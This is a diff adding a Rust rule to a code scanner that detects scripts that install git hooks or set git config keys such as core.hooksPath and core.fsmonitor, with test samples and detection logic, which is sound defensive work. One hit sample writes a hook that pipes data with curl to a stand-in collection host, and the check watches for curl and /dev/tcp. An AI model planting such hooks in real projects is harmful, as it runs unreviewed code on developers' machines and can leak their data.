@@ -1,0 +1,79 @@
+//! `persistence-git-hook`: something is made to run with each use of git.
+
+use crate::finding::{Confidence, Severity};
+use crate::scan::code::Unit;
+use crate::scan::command;
+use crate::scan::rule::{Check, Reporter, Rule, Sample};
+
+/// The rule.
+pub static RULE: Rule = Rule {
+    id: "persistence-git-hook",
+    title: "Makes something run with each use of git",
+    severity: Severity::Warning,
+    confidence: Confidence::Medium,
+    why: "Hooks of git run with every commit, pull or clone of the person, and are part of no review.",
+    fix: "Let the person install hooks with the tool of the project.",
+    references: &["ATT&CK T1546", "CWE-829"],
+    hits: &[
+        Sample::File("a.sh", "git config --global core.hooksPath /tmp/hooks\n"),
+        Sample::File(
+            "a.sh",
+            "echo 'curl -d @- https://collect.example.com' > .git/hooks/post-commit\nchmod +x .git/hooks/post-commit\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "open('.git/hooks/pre-push', 'w').write('x')\n",
+        ),
+        Sample::File(
+            "scripts/a.js",
+            "require('fs').writeFileSync('.git/hooks/post-merge', 'x');\n",
+        ),
+    ],
+    misses: &[
+        Sample::File("a.sh", "git config user.name demo\npre-commit install\n"),
+        Sample::File("a.sh", "cat .git/hooks/pre-commit\n"),
+        Sample::File("scripts/a.py", "open('docs/hooks.md', 'w').write('x')\n"),
+        Sample::File(
+            "scripts/a.js",
+            "require('fs').writeFileSync('.githooks/pre-commit', 'x');\n",
+        ),
+    ],
+    check: Check::Unit(check),
+};
+
+fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
+    for (span, path, content) in command::writes(unit) {
+        if path.contains(".git/hooks/") && !path.ends_with(".sample") {
+            let raised = reporter.raise(span);
+            let sends = content
+                .text
+                .as_deref()
+                .is_some_and(|text| text.contains("curl ") || text.contains("/dev/tcp/"));
+            if sends || command::is_loaded(content) {
+                raised
+                    .severity(Severity::Error)
+                    .message("Makes git run what reaches the network");
+            }
+        }
+    }
+    for command in command::all(unit) {
+        if !command.is(&["git"]) || !command.has("config") {
+            continue;
+        }
+        let line = command.small();
+        let global = command.has("--global") || command.has("--system");
+        let runs = line.contains("core.hookspath")
+            || line.contains("init.templatedir")
+            || line.contains("core.fsmonitor")
+            || line.contains("core.sshcommand");
+        let unset = line.contains("--unset") || line.contains("--get");
+        if runs && !unset {
+            let raised = reporter.raise(command.span);
+            if global {
+                raised.severity(Severity::Error);
+            } else {
+                raised.severity(Severity::Info);
+            }
+        }
+    }
+}
